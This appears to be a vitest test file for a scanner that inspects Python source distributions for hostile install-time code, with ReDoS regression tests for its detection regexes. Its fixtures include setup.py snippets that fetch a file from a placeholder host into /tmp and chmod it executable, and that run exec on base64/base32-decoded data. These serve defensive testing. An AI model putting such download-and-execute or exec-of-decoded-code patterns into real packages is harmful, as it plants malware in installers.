import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scanPythonDistribution, type ScanReport } from '../../helper/src/scan/index.js';
import { DECODE_CALL } from '../../helper/src/scan/python/indicators.js';
import { makeSdist } from './python-support.js';
import { tempDir } from './support.js';

// Expressions of the Python analysis the static ReDoS check (test/regex-audit.test.ts) flagged, on the shapes
// that made them O(n²); sized so the old ones run for minutes. The findings must be the short input's.
const MB = 1024 * 1024;
const fill = (unit: string, size = MB) => unit.repeat(Math.ceil(size / unit.length));

describe('DECODE_CALL: base64.*decode*', () => {
  it('names the base64 decoders, not other base64 calls', () => {
    for (const q of ['base64.b64decode', 'base64.urlsafe_b64decode', 'base64.decodebytes', 'zlib.decompress']) expect(DECODE_CALL.test(q), q).toBe(true);
    for (const q of ['base64.b64encode', 'base64.decode.x', 'mybase64.b64decode', 'base64.']) expect(DECODE_CALL.test(q), q).toBe(false);
  });
  it('1 MB of decodex after base64. (a call name is as long as its source)', () => {
    expect(DECODE_CALL.test(`base64.${fill('decodex')}\x00`)).toBe(false);
    expect(DECODE_CALL.test(`base64.${fill('decodex')}`)).toBe(true);
  });
});

describe('Python scan: hostile mode and base32 arguments', () => {
  let work: { dir: string; cleanup(): Promise<void> };
  beforeAll(async () => {
    work = await tempDir('sscs-pyredos-');
  });
  afterAll(() => work.cleanup());
  const scan = async (name: string, setup: string) =>
    (await scanPythonDistribution(await makeSdist(work.dir, name, { 'setup.py': setup, 'pkg/__init__.py': '' }), 'sdist')).findings.map((f: ScanReport['findings'][number]) => `${f.severity} ${f.rule}`).sort();

  it('os.chmod with an executable mode is read; an identifier of 1 MB of digits is not a mode', async () => {
    const chmod = (mode: string) => `import os, urllib.request\nurllib.request.urlretrieve('https://example.invalid/x', '/tmp/x')\nos.chmod('/tmp/x', ${mode})\n`;
    const exec = await scan('m1', chmod('0o755'));
    expect(exec).not.toEqual(await scan('m2', chmod('0o644')));
    expect(await scan('m3', chmod(`C${fill('04')}S`))).toEqual(await scan('m4', chmod('C04S')));
  });
  it('base64.b32decode of a literal padded with 256 KB of `=` before a last character', async () => {
    // 256 KB: the old `=+$` takes 3·10¹⁰ steps on it; 1 MB nears the Python parser's 10 s budget on a loaded machine.
    const b32 = (pad: string) => `import base64\nexec(base64.b32decode('${pad}'))\n`;
    expect(await scan('b1', b32(`${fill('=', 256 * 1024)}\x00=`))).toEqual(await scan('b2', b32('==\x00=')));
  });
});
